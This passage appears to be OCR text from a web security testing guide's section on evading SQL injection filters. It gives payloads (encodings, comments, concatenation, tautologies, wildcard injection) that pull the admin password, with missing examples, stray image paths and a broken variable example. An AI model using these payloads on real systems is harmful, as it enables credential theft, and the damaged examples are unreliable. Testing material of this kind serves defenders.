to add Null Bytes will be

%00' UNION SELECT password FROM Users WHERE username='admin'--

SQL Comments

Adding SQL inline comments can also help the SQL statement to be valid and bypass the SQL injection filter. Take this SQL injection as example.

' UNION SELECT password FROM Users WHERE name='admin'--

Adding SQL inline comments will be.URL Encoding

Use the online URL encoding to encode the SQL statement

' UNION SELECT password FROM Users WHERE name='admin'--

The URL encoding of the SQL injection statement will be


Character Encoding

Char() function can be used to replace English char. For example, char(114,111,111,116) means root

' UNION SELECT password FROM Users WHEREname='root'--

To apply the Char(), the SQL injection statement will be

' UNION SELECT password FROM Users WHERE name=char(114,111,111,116)--

String Concatenation

Concatenation breaks up SQL keywords and evades filters. Concatenation syntax varies based on database engine. Take MS SQL engine as an example

select 1

The simple SQL statement can be changed as below by using concatenation

EXEC('SEL' + 'ECT 1')

Hex Encoding

Hex encoding technique uses Hexadecimal encoding to replace original SQL statement char. For example,root can be represented as 726F6F74

Select user from users where name = 'root'

The SQL statement by using HEX value will be:

Select user from users where name = 726F6F74


Select user from users where name = unhex('726F6F74')

Declare Variables

Declare the SQL injection statement into variable and execute it.

For example, SQL injection statement below

Union Select password

Define the SQL statement into variable SQLivar

; declare @SQLivar nvarchar(80); set @myvar = N'UNI' + N'ON' + N' SELECT' + N'password');

Alternative Expression of ‘or 1 = 1’OR 'SQLi' = 'SQL'+'i'
OR 'SQLi' > 'S'
or 20 > 1
OR 2 between 3 and 1
OR 'SQLi' = N'SQLi'
1 and 1 = 1
1 || 1 = 1
1 && 1 = 1

SQL Wildcard Injection

Most SQL dialects support both single-character wildcards (usually “?” or “_”) and multi-character wildcards (usually “%” or “*”), which can be used in queries with the LIKE operator. Even when appropriate controls (such as parameters or prepared statements) are used to protect against SQL injection attacks, it may be possible to inject wildcards into queries.

For example, if a web application allows users to enter a discount code as part of the checkout process, and it checks whether this codeexists in the database using a query such as SELECT * FROM discount_codes WHERE code LIKE ':code', then entering a value of % (which would be inserted in place of the :code parameter) would match all of the discount codes.

This technique could also be used to determine exact discount codes through increasingly specific queries (such as a%, b%, ba%, etc).


For generic input validation security, refer to the Input Validation CheatSheet.Technology specific Testing Guide pageshave been created for the following DBMSs:


Documentation on SQL InjectionVulnerabilities in Products